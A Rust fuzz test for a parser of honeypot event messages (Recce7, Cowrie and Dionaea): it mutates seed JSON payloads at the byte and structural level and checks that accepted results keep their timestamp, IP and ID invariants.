fn mutate(v: &mut Value, rng: &mut XorShift, depth: usize) {
    if depth > 0 && rng.chance(3) {
        *v = random_value(rng, depth);
        return;
    }
    match v {
        Value::Object(m) if !m.is_empty() => {
            let keys: Vec<String> = m.keys().cloned().collect();
            let key = &keys[rng.below(keys.len())];
            match rng.below(5) {
                0 => {
                    m.remove(key);
                }
                1 => {
                    let k = STRINGS[rng.below(STRINGS.len())].to_owned();
                    m.insert(k, random_value(rng, depth + 1));
                }
                _ => {
                    if let Some(child) = m.get_mut(key) {
                        mutate(child, rng, depth + 1);
                    }
                }
            }
        }
        Value::Array(a) if !a.is_empty() => {
            let i = rng.below(a.len());
            if rng.chance(4) {
                a.remove(i);
            } else {
                mutate(&mut a[i], rng, depth + 1);
            }
        }
        _ => *v = random_value(rng, depth),
    }
}

fn mutate_bytes(bytes: &mut Vec<u8>, rng: &mut XorShift) {
    for _ in 0..=rng.below(4) {
        if bytes.is_empty() {
            bytes.push(b'{');
        }
        let i = rng.below(bytes.len());
        match rng.below(4) {
            0 => bytes[i] = rng.next() as u8,
            1 => bytes.truncate(i),
            2 => bytes.insert(i, b"{}[]\":,0-e.\\"[rng.below(12)]),
            _ => {
                bytes.remove(i);
            }
        }
    }
}

fn check_invariants(parsed: &Parsed) {
    let time_ok = |t: &str| t.len() == 27 && t.ends_with('Z') && t.as_bytes()[10] == b'T';
    match parsed {
        Parsed::Event(e) => {
            assert!(time_ok(&e.time), "{}", e.time);
            assert_eq!(e.src_ip, e.src_ip.to_canonical());
            assert!(store::is_id(&e.id));
        }
        Parsed::Cowrie(s) => {
            assert!(s.id.starts_with("cowrie-") && s.id.len() == 39);
            assert!(time_ok(&s.start_time));
            assert!(s.end_time.as_deref().is_none_or(time_ok));
            assert_eq!(s.peer_ip, s.peer_ip.to_canonical());
            for k in COWRIE_FIELDS {
                assert!(!s.extra.contains_key(k));
            }
        }
        Parsed::Dionaea(c) => {
            assert!(c.id.starts_with("dionaea-") && c.id.len() == 40);
            assert_eq!(c.remote_ip, c.remote_ip.to_canonical());
            assert!(!c.connection_type.is_empty());
        }
    }
}

#[test]
fn random_input_never_panics() {
    let mut rng = XorShift(0x9e37_79b9_7f4a_7c15);
    let seeds = [
        (RECCE7_CHANNEL, EVENT),
        (COWRIE_CHANNEL, COWRIE_TELNET),
        (COWRIE_CHANNEL, COWRIE_CHN_SSH),
        (DIONAEA_CHANNEL, DIONAEA_SMB),
        (DIONAEA_CHANNEL, DIONAEA_CHN_HTTP),
    ];
    let all_limits = [limits(), small_limits()];
    let mut accepted = [0usize; 3];
    for round in 0..1_500 {
        for (channel, seed) in seeds {
            let l = &all_limits[round % 2];
            // Random bytes.
            let len = rng.below(200);
            let bytes: Vec<u8> = (0..len).map(|_| rng.next() as u8).collect();
            for ch in [RECCE7_CHANNEL, COWRIE_CHANNEL, DIONAEA_CHANNEL] {
                let _ = parse(ch, IDENT, &bytes, l);
            }
            // Byte-level mutations of a real payload.
            let mut bytes = seed.as_bytes().to_vec();
            mutate_bytes(&mut bytes, &mut rng);
            if let Ok(p) = parse(channel, IDENT, &bytes, l) {
                check_invariants(&p);
            }
            // Structural mutations of a real payload.
            let mut v: Value = serde_json::from_str(seed).unwrap();
            for _ in 0..=rng.below(3) {
                mutate(&mut v, &mut rng, 0);
            }
            let bytes = serde_json::to_vec(&v).unwrap();
            for ch in [channel, RECCE7_CHANNEL, COWRIE_CHANNEL, DIONAEA_CHANNEL] {
                if let Ok(p) = parse(ch, IDENT, &bytes, l) {
                    accepted[channel_kind(ch) as usize] += 1;
                    check_invariants(&p);
                }
            }
        }
    }
    // The mutations must leave some payloads valid, or the test explores nothing.
    assert!(accepted.iter().all(|&n| n > 100), "{accepted:?}");
}
